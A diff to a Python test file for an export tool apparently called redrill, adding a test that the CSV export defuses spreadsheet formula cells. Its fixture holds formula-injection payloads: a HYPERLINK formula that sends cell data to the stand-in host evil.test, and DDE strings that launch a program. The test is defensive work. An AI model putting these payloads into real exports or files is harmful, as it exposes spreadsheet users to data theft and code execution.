@@ -9,6 +9,7 @@ import stat
 
 from fixtures_attempts import T0, metrics, seed
 from redrill.paths import Paths
+from redrill.scoring import Metrics
 from redrill.store import open_store
 from redrill.tracking.export import CSV_COLUMNS, csv_row
 
@@ -83,7 +84,7 @@ def test_export_to_a_file_is_user_only(cli, redrill_home, tmp_path):
     target = tmp_path / "out" / "all.json"
     result = cli("export", "--format", "json", "--out", target)
     assert result.exit_code == 0
-    assert "Exported 1 attempt(s)" in (result.stderr or result.output)
+    assert "Exported 1 attempt" in (result.stderr or result.output)
     assert stat.S_IMODE(target.stat().st_mode) == 0o600
     assert json.loads(target.read_text())["attempts"][0]["question_id"] == "a"
 
@@ -114,6 +115,56 @@ def test_csv_row_has_every_column_for_an_empty_metrics_dict():
 
     row = csv_row(Attempt(1, "q", "Q?", T0, "text", "recorded"))
     assert set(CSV_COLUMNS) <= set(row)
+
+
+FORMULAS = {
+    '=HYPERLINK("http://evil.test/?"&A1,"click")': "question_text",
+    "+cmd|' /C calc'!A0": "talking_points_covered",
+    "@SUM(1+1)*cmd|' /C calc'!A0": "talking_points_missing",
+    "-2+3+cmd|' /C calc'!A0": "restart_examples",
+    "\t=1+1": "hedge_examples",
+    "\r=1+1": "error",
+}
+
+
+def test_csv_export_neutralises_formula_cells(cli, redrill_home):
+    """Cells a spreadsheet would run as a formula start with a single quote (OWASP's advice);
+    numbers stay numbers, and the JSON export keeps the text exactly as stored."""
+    by_column = {column: text for text, column in FORMULAS.items()}
+    m = metrics(131.5, 42.25, pauses=2)
+    m.update(
+        {
+            "talking_points": {
+                "covered": [by_column["talking_points_covered"]],
+                "missing": [by_column["talking_points_missing"]],
+            },
+            "restart_examples": [by_column["restart_examples"]],
+            "hedge_examples": [by_column["hedge_examples"]],
+            "under_target_s": -3.5,  # a negative number is a number, not a formula
+        }
+    )
+    store = open_store(Paths(redrill_home))
+    store.add_attempt(
+        question_id="evil",
+        question_text=by_column["question_text"],
+        source="text",
+        status="scored",
+        created_at=T0,
+        metrics=Metrics.from_dict(m),
+        error=by_column["error"],
+    )
+    store.close()
+
+    [row] = list(csv.DictReader(io.StringIO(cli("export", "--format", "csv").output)))
+    for text, column in FORMULAS.items():
+        assert row[column] == "'" + text.replace("\r", "\n"), (column, row[column])
+    assert row["under_target_s"] == "-3.5" and row["duration_s"] == "131.5"
+    assert row["question_id"] == "evil"
+    for cell in row.values():
+        assert not cell or cell[0] not in "=+-@\t\r\n" or cell == "-3.5", cell
+
+    [stored] = json.loads(cli("export", "--format", "json").output)["attempts"]
+    assert stored["question_text"] == by_column["question_text"]
 
 
 def test_csv_has_the_transcript_words(cli, redrill_home):
